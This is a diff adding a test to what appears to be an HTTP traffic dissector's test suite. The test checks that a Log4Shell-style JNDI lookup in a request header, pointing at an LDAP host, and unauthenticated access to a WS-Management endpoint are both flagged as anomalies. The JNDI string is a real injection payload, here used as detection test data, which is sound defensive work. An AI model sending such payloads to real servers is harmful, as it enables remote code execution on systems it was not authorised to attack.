@@ -157,6 +157,21 @@ test('a part of a file says where it stands in the whole', () => {
   assert.deepEqual(file.slice(14, 19), [4, 100, 10, 0, true])
 })
 
+test('an expression in a header, and management that asks for no login, are anomalies', () => {
+  const talk = new Talk()
+  talk.says('client', `GET / HTTP/1.1\r\nX-Api-Version: \${jndi:ldap://203.0.113.9/a}\r\nAccept: $1, {2}\r\n\r\n`)
+  talk.says('server', 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
+  assert.deepEqual(talk.recorder.anomalies, ['http.expression-in-header'])
+  const manage = (login: string, status: string) => {
+    const other = new Talk()
+    other.says('client', `POST /wsman HTTP/1.1\r\n${login}Content-Length: 0\r\n\r\n`)
+    other.says('server', `HTTP/1.1 ${status}\r\nContent-Length: 0\r\n\r\n`)
+    return other.recorder.anomalies
+  }
+  assert.deepEqual(manage('', '200 OK'), ['http.management-without-login'])
+  assert.deepEqual([...manage('', '401 Unauthorized'), ...manage('Authorization: Negotiate TlRM\r\n', '200 OK')], [])
+})
+
 test('other protocols are refused at their first bytes', () => {
   const ctx = context<Http, HttpState>('client', http.dissector.start!(), { serverPort: 80 })
   for (const text of ['SSH-2.0-OpenSSH_9\r\n', 'OPTIONS rtsp://x RTSP/1.0\r\n\r\n', '\x16\x03\x01\x00\x05aaaaa', 'EHLO mail\r\n']) {
